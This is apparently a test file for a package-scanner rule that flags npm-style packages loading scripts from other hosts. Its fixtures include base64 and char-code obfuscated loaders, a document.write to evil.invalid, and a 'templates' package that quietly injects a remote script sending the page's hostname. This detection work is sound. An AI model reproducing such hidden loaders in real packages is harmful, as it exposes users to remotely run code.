import { examine } from '../../../test/examine.ts';
import { loadsRemoteScript } from './loads-remote-script.ts';

examine(loadsRemoteScript, {
  speaks: [
    {
      when: 'a helper makes an element with whatever members it is handed',
      files: {
        'index.js': `const h = (tag, props) => Object.assign(document.createElement(tag), props); document.head.append(h('script', { src: 'https://static.other-host.invalid/t.js', async: true }))`,
      },
      weight: 'strong',
    },
    {
      when: 'a module is imported from another host at once',
      files: {
        'index.mjs': `const theme = await import('https://static.other-host.invalid/t.js'); export default theme;`,
        'package.json': { name: 'themer', version: '1.0.0', type: 'module', main: 'index.mjs' },
      },
      weight: 'strong',
      says: ['static.other-host.invalid'],
    },
    {
      when: 'the same where somebody asks for it',
      files: {
        'index.mjs': `const BASE = 'https://static.other-host.invalid'; export const toggle = async () => (await import(BASE + '/t.js')).apply();`,
        'package.json': { name: 'themer', version: '1.0.0', type: 'module', main: 'index.mjs' },
      },
      weight: 'context',
    },
    {
      when: 'a page of templates is silent of the script that a list of elements puts into pages, member by member',
      files: {
        'README.md': `# arty\n\nTemplates that are compiled once and filled in as often as you like, in browsers and on Node. Escapes what it fills in.`,
        'index.js': `function Entry(tag, props) { this.tag = tag; this.props = props; }
          const list = [new Entry('style', { textContent: 'p{}' }), new Entry('script', { async: true, src: '//art.other-host.invalid/code.js?host=' })];
          function attach(entry) { const el = document.createElement(entry.tag); Object.keys(entry.props).forEach(k => { el[k] = k === 'src' ? entry.props[k] + location.hostname : entry.props[k] }); document.head.appendChild(el); }
          exports.render = (text) => { list.forEach(attach); return text; }`,
      },
      weight: 'weak',
    },
    {
      when: 'its page says whose script it puts there',
      files: {
        'README.md': `# maps\n\nPuts the maps of Otherhost into a page, with markers and lines, and tells when one of them is clicked. Nothing is kept.`,
        'index.js': `exports.open = () => { const el = document.createElement('script'); const props = { src: 'https://maps.otherhost.invalid/maps.js' }; for (const key in props) el[key] = props[key]; document.head.append(el) }`,
      },
      weight: 'context',
    },
    {
      when: 'one that counts visitors for a stranger',
      files: {
        'ga.js': `const s = document.createElement('script'); s.async = true; s.src = 'https://www.google-analytics.com.cdn.invalid/analytics.js'; document.body.appendChild(s)`,
        'package.json': { name: 'specimen', main: 'ga.js' },
      },
      weight: 'strong',
    },
    {
      when: 'one that most sites count their visitors by',
      files: {
        'index.js': `const s = document.createElement('script'); s.async = true; s.src = 'https://www.google-analytics.com/analytics.js'; document.body.appendChild(s)`,
      },
      weight: 'weak',
    },
    {
      when: 'it is put into the page at import',
      files: { 'index.js': `const s = document.createElement('script'); s.src = 'https://cdn.invalid/x.js'; document.head.appendChild(s)` },
      weight: 'strong',
      says: ['cdn.invalid'],
    },
    {
      when: 'it is the script of the service that the package is named for',
      files: {
        'package.json': { name: '@payments/loader' },
        'index.js': `const s = document.createElement('script'); s.src = 'https://js.payments.invalid/v3'; document.head.appendChild(s)`,
      },
      weight: 'weak',
    },
    {
      when: 'it comes from a mirror of the registry',
      files: {
        'index.js': `const s = document.createElement('script'); s.src = 'https://' + 'cdn.jsdelivr' + '.net/npm/x@1'; document.head.appendChild(s)`,
      },
      weight: 'weak',
    },
    {
      when: 'it is made and addressed in one expression',
      files: {
        'index.js': `var n;(n=document.createElement("script")).src="https://cdn.invalid/x.js",document.head.appendChild(n)`,
      },
      weight: 'strong',
      says: ['cdn.invalid'],
    },
    {
      when: 'its address is encoded',
      files: {
        'index.js': `const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9jZG4uaW52YWxpZC94Lmpz'); document.body.append(s)`,
      },
      weight: 'strong',
    },
    {
      when: 'by an attribute',
      files: {
        'index.js': `const s = document.createElement('script'); s.setAttribute('src', '//192.0.2.7/x.js'); document.body.append(s)`,
      },
      weight: 'strong',
    },
    {
      when: 'it is written into the page',
      files: { 'index.js': `document.write('<script src="https://evil.invalid/x.js"></scr' + 'ipt>')` },
      says: ['evil.invalid'],
      weight: 'strong',
    },
    {
      when: 'the address of a script is letters by their numbers, and a page loads it when a function is called',
      files: {
        'index.js': `const table = [104,116,116,112,115,58,47,47,99,100,110,46,115,46,105,110,118,97,108,105,100,47,101,46,106,115]; exports.step = () => { const s = document.createElement('script'); s.src = String.fromCharCode.apply(null, table); document.head.appendChild(s); };`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'a picture is put into the page',
      files: { 'index.js': `const i = document.createElement('img'); i.src = 'https://cdn.invalid/x.png'` },
    },
    {
      when: 'the caller brings the address',
      files: { 'index.js': `exports.load = url => { const s = document.createElement('script'); s.src = url; document.head.append(s) }` },
    },
    {
      when: 'a script of its own is written into the page',
      files: { 'index.js': `document.write('<script src="/vendor/x.js"></scr' + 'ipt>')` },
    },
    {
      when: 'it offers, as a text, what a page is to load',
      files: {
        'index.js': `exports.snippet = "var shown = document.createElement('script'); shown.src = 'https://monitor.stat.invalid/scripts/a.js'; document.head.appendChild(shown); window.stats = window.stats || [];";`,
      },
    },
  ],
});
